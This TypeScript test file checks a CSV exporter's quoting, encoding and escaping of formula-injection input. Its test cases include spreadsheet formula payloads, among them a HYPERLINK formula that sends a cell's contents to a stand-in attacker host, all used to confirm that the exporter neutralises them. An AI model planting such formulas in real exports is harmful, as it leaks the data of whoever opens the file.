import { describe, expect, it } from 'vitest';
import { type CsvValue, toCsv } from './csv.ts';

/** The only cell of a file with one row. */
const cellOf = (value: CsvValue) => toCsv([{ header: 'A', value: () => value }], [0]).split('\r\n')[1];

describe('toCsv', () => {
  it('writes a header and a line per row, marked as UTF-8', () => {
    const columns = [
      { header: 'Name', value: ({ name }: { name: string }) => name },
      { header: 'Handled', value: () => false },
    ];
    expect(toCsv(columns, [{ name: 'Zoë' }, { name: 'Émile' }])).toBe(
      '\uFEFFName,Handled\r\nZoë,false\r\nÉmile,false\r\n',
    );
  });

  it.each([
    ['two, of them', '"two, of them"'],
    ['say "hello"', '"say ""hello"""'],
    ['one; two', '"one; two"'],
    [null, ''],
    [undefined, ''],
    [-3, '-3'],
  ])('writes %j as %s', (value, written) => expect(cellOf(value)).toBe(written));

  it('keeps a line break within its cell', () => {
    expect(toCsv([{ header: 'A', value: () => 'one\ntwo' }], [0])).toContain('"one\ntwo"');
  });

  it.each([
    ['Thank you;=HYPERLINK("https://evil.example")', `"Thank you;'=HYPERLINK(""https://evil.example"")"`],
    ['a; "+1', `"a;' ""+1"`],
    ['a;b;@c', `"a;b;'@c"`],
  ])('escapes %j, of which a spreadsheet that separates by semicolons would make a formula', (value, written) =>
    expect(cellOf(value)).toBe(written),
  );

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"here")',
  ])('escapes %j, which would be a formula', (value) => {
    expect(cellOf(value)?.replace(/^"/, '').startsWith("'")).toBe(true);
  });
});
